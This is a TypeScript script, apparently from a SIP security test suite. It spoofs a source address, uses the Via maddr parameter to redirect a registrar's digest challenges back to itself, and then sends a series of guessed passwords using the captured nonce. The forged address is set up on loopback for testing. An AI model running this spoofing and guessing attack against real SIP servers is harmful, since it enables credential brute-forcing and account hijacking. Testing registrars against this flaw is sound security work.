// The attack on the proof itself: requests under another's address whose Via has the answers sent here, so that the
// forger learns a genuine nonce and echoes it under the forged address (RFC 3261 §18.2.2).
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { authorizationFor, newBranch, randomToken, readResponse } from '../sip-message.ts';
import { pause, readOptions, say } from './program.ts';

export interface MaddrOptions {
  readonly server: string;
  /** Whose address is forged; an address of this host's, on `lo`. */
  readonly as: string;
  /** Where the answers are to go: this host's own address. */
  readonly own: string;
  readonly account: string;
  readonly guesses: number;
}

export interface MaddrFinding {
  readonly nonces: number;
  readonly sent: number;
}

const listenPort = 6_060;
const { server, as, own, account, guesses } = readOptions<MaddrOptions>();
const nonces: string[] = [];
const forged = createSocket({ type: 'udp4', reuseAddr: true });
const listening = createSocket({ type: 'udp4', reuseAddr: true });
forged.bind(5_060, as);
listening.bind(listenPort, own);
await Promise.all([once(forged, 'listening'), once(listening, 'listening')]);
listening.on('message', (bytes) => {
  const challenge = readResponse(bytes.toString()).header('WWW-Authenticate');
  if (challenge) nonces.push(challenge);
});

const uri = `sip:${server}`;
const self = `<sip:${account}@${server}>`;
const [from, callId] = [`${self};tag=${randomToken()}`, randomToken()];
const send = (sequence: number, headers: readonly string[]) => {
  const lines = [
    `REGISTER ${uri} SIP/2.0`,
    `Via: SIP/2.0/UDP ${as}:${listenPort};maddr=${own};branch=${newBranch()}`,
    'Max-Forwards: 70',
    `From: ${from}`,
    `To: ${self}`,
    `Call-ID: ${callId}`,
    `CSeq: ${sequence} REGISTER`,
    `Contact: <sip:${account}@${as}:5060>`,
    ...headers,
    'Content-Length: 0',
  ];
  forged.send(`${lines.join('\r\n')}\r\n\r\n`, 5_060, server);
};

send(1, []);
for (let waited = 0; nonces.length === 0 && waited < 50; waited += 1) await pause(100);
const request = { method: 'REGISTER', uri, from, to: self, callId, sequence: 1 };
for (let guess = 0; guess < guesses && nonces.length > 0; guess += 1) {
  const password = `guess${guess}`;
  send(2 + guess, [authorizationFor(nonces.at(-1) ?? '', request, { account, password })]);
  await pause(20);
}
await pause(300);
for (const socket of [forged, listening]) socket.close();
say<MaddrFinding>({ nonces: nonces.length, sent: guesses });
